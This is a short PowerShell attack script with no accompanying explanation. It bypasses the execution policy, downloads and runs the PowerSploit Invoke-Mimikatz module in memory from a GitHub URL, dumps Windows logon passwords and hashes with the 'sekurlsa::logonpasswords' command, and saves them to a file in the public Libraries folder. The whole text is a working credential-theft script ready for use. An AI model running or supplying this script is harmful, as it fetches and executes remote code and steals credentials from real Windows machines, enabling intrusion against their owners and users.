Set-ExecutionPolicy Bypass -Scope Process -Force
IEX(New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1')
$out = Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords" "exit"'
$out | Out-File -FilePath "$env:PUBLIC\Libraries\m.txt" -Encoding ascii
